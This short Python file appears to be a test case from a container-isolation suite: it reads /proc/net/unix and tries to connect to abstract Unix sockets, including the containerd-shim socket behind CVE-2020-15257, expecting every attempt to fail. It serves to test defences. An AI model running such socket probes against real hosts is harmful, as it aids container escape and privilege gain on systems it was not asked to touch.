# Attack: connects with sockets that are names and no files, such as those of the programs that watch over containers
# (CVE-2020-15257).
# Expect: exited 0
# Prints: none
# Weak: neighbour
# Succeeds: WORKED
import socket

lines = open("/proc/net/unix").readlines()[1:]
names = [line.split()[-1] for line in lines if "@" in line]
for name in names + ["@/containerd-shim/moby/shim.sock", "@carrel-neighbour"]:
    try:
        socket.socket(socket.AF_UNIX).connect("\0" + name[1:])
        print("WORKED", name)
    except OSError:
        pass
print("none" if not names else names)
